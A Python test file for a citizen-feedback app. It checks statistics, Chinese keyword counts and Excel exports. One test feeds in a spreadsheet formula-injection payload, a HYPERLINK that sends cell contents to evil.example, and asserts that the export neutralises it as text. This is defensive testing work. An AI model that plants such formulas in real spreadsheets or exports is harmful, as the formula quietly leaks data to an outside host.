"""Statistics: exact figures in the offices' style, keywords with stop words, Excel exports."""

import io

from openpyxl import load_workbook

from tenant_apps.voices import services, stats
from tenant_apps.voices.models import Rating, Voice

from .helpers import deputy, submit


def test_figures_and_exports(world, db, client_for, in_congress):
    with in_congress("T2"):
        Voice.objects.all().delete()
        user = deputy(world, "T2").user
        voices = [
            submit(
                world,
                "T2",
                title="老旧小区改造",
                description="老旧小区改造进度慢，停车难问题突出。",
                gender="female",
                age_band="60_plus",
            )
            for _i in range(3)
        ]
        voices.append(
            submit(
                world,
                "T2",
                category="consultation",
                title="医保报销咨询",
                description="异地就医医保报销怎么办理？",
                gender="male",
            )
        )
        for voice in voices[:3]:
            services.accept(voice, user=user)
            services.answer(voice, user=user, text="已转交社区跟进。")
        services.rate(voices[0], citizen_key=voices[0].citizen_key, rating=Rating.SATISFIED)
        services.rate(voices[1], citizen_key=voices[1].citizen_key, rating=Rating.BASICALLY_SATISFIED)
        services.rate(voices[2], citizen_key=voices[2].citizen_key, rating=Rating.DISSATISFIED)
        report = stats.report(Voice.objects.all())
    head = report["headline"]
    assert (head["collected"], head["answered"], head["rated"], head["satisfied"]) == (4, 3, 3, 2)
    assert str(head["satisfaction_rate"]) == "66.67" and str(head["answer_rate"]) == "75.00"
    assert {c["code"]: c["count"] for c in report["categories"]} == {"help": 3, "consultation": 1}
    assert {g["code"]: g["count"] for g in report["genders"]} == {"male": 1, "female": 3}
    counts = {k["word"]: k["count"] for k in report["keywords"]}
    assert counts["停车难"] == 3 and counts["改造"] == 3 and counts["医保"] == 1
    assert "问题" not in counts and "怎么" not in counts  # stop words
    assert stats.rate(322, 326) is not None and str(stats.rate(322, 326)) == "98.77"
    client = client_for("T2", world.user("leader", "T2"))
    page = client.get("/voices/stats/").content.decode()
    assert "收集意见建议 4 件，答复 3 件，满意 2 件，满意率 66.67%" in page
    export = client.get("/voices/stats/all.xlsx")
    book = load_workbook(io.BytesIO(export.content))
    assert book["总体"]["A2"].value == 4 and "热词" in book.sheetnames
    listing = load_workbook(io.BytesIO(client.get("/voices/manage/export.xlsx").content))
    rows = list(listing.active.values)
    assert len(rows) == 5 and rows[1][-1].count("*") == 4


def test_message_list_export_neutralises_a_formula_title(world, db, client_for, in_congress):
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
    with in_congress("T2"):
        submit(world, "T2", title=payload)
    client = client_for("T2", world.user("leader", "T2"))
    listing = load_workbook(io.BytesIO(client.get("/voices/manage/export.xlsx").content))
    cell = next(c for row in listing.active.iter_rows() for c in row if c.value == payload)
    assert cell.data_type == "s" and cell.quotePrefix
